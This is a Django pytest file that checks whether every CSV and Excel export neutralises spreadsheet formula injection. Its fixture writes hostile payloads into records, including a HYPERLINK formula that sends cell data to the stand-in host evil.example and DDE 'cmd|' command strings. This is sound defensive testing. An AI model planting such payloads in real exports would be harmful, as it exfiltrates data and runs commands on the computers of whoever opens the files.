"""Every CSV and Excel export, walked with poisoned names: no cell can run as a formula.

The table below names every export the URL resolver knows (a URL whose name says ``export``
or ``csv``); a new export that is not added here fails :func:`test_every_export_is_walked`.
Names that people type or import (retailers, owners, addresses, districts, account managers,
brands) are set to text that a spreadsheet would run (``=HYPERLINK(...)``, ``+``, ``-``,
``@``, a tab); each export must show them with a leading apostrophe (``config.spreadsheet``).
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal, InvalidOperation

import pytest
from django.db.models import Value
from django.db.models.functions import Concat
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from openpyxl import load_workbook

from accounts.models import User
from allocation.models import AllocationRun, RunStatus
from catalog.models import Brand
from config.api.testing import api_token, bearer
from config.spreadsheet import FORMULA_STARTS, safe_cell, safe_text
from retailers.models import Retailer
from territory.models import District

pytestmark = pytest.mark.django_db

POISON = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def published_run() -> AllocationRun:
    return AllocationRun.objects.filter(status=RunStatus.PUBLISHED).order_by("pk").first()


#: url name -> (how to build the URL, the format, whether it lists retailer names)
EXPORTS = {
    "api:retailer-export": (lambda: reverse("api:retailer-export") + "?format=csv", "csv", True),
    "allocation:run-export": (
        lambda: reverse("allocation:run-export", args=[published_run().pk, "csv"]),
        "csv",
        True,
    ),
    "allocation:run-export[xlsx]": (
        lambda: reverse("allocation:run-export", args=[published_run().pk, "xlsx"]),
        "xlsx",
        True,
    ),
    "settlement:sales-export": (
        lambda: reverse("settlement:sales-export", args=["csv"]) + "?level=manager",
        "csv",
        False,
    ),
    "settlement:sales-export[xlsx]": (
        lambda: reverse("settlement:sales-export", args=["xlsx"]) + "?level=district",
        "xlsx",
        False,
    ),
    "visits:compliance-summary-csv": (
        lambda: reverse("visits:compliance-summary-csv"),
        "csv",
        False,
    ),
    "visits:compliance-missed-csv": (
        lambda: reverse("visits:compliance-missed-csv"),
        "csv",
        True,
    ),
}


def _export_names(resolver: URLResolver | None = None, namespace: str = ""):
    for entry in (resolver or get_resolver()).url_patterns:
        if isinstance(entry, URLResolver):
            inner = f"{namespace}{entry.namespace}:" if entry.namespace else namespace
            yield from _export_names(entry, inner)
        elif isinstance(entry, URLPattern) and (
            "export" in (entry.name or "") or "csv" in (entry.name or "")
        ):
            yield namespace + entry.name


def test_every_export_is_walked():
    walked = {name.split("[")[0] for name in EXPORTS}
    assert set(_export_names()) == walked


@pytest.fixture
def poisoned(demo):
    Retailer.objects.update(
        name=Concat(Value(POISON), "name"),
        owner_name=Value("@SUM(1+1)*cmd|' /C calc'!A0"),
        address=Value("-2+3+cmd|' /C calc'!A0"),
    )
    District.objects.update(name=Concat(Value("+"), "name"))
    User.objects.filter(username__in=["manager", "manager2"]).update(
        full_name=Concat(Value("=1+2 "), "full_name")
    )
    Brand.objects.update(name=Concat(Value("-"), "name"))
    return demo


def cells(response, fmt: str) -> list[list]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    if fmt == "xlsx":
        book = load_workbook(io.BytesIO(body), read_only=True)
        return [list(row) for sheet in book.worksheets for row in sheet.iter_rows(values_only=True)]
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def is_number(text: str) -> bool:
    try:
        Decimal(text)
    except InvalidOperation:
        return False
    return True


def formula_cells(rows: list[list]) -> list:
    """Cells a spreadsheet would run: text starting like a formula (numbers are numbers)."""
    bad = []
    for row in rows:
        for value in row:
            text = isinstance(value, str) and value.startswith(FORMULA_STARTS)
            if text and not (value.startswith("-") and is_number(value)):
                bad.append(value)
    return bad


@pytest.mark.parametrize("name", sorted(EXPORTS))
def test_no_export_cell_can_run_as_a_formula(client, poisoned, name):
    build, fmt, with_retailers = EXPORTS[name]
    user = poisoned["supervisor"]
    url = build()
    if name.startswith("api:"):
        response = client.get(url, **bearer(api_token(user)))
    else:
        client.force_login(user)
        response = client.get(url)
    assert response.status_code == 200, name
    rows = cells(response, fmt)
    assert len(rows) > 1
    assert formula_cells(rows) == []
    flat = [str(v) for row in rows for v in row if v is not None]
    # The poisoned names are there, escaped.
    if with_retailers:
        assert any(v.startswith("'" + POISON) for v in flat)
    else:
        assert any(v.startswith(("'+", "'=1+2", "'-")) for v in flat)


def test_the_rule_keeps_numbers_and_escapes_text():
    assert safe_cell(-4) == -4
    assert safe_cell(Decimal("-4.50")) == Decimal("-4.50")
    assert safe_cell(None) == ""
    assert safe_cell(True) == "True"
    assert safe_cell("-4") == "'-4"  # text is never guessed at
    assert safe_cell("=1+1") == "'=1+1"
    assert safe_cell("＝1+1") == "'＝1+1"
    assert safe_text("\tx") == "'\tx"
    assert safe_text("plain 名字") == "plain 名字"
    assert safe_text("a=b") == "a=b"
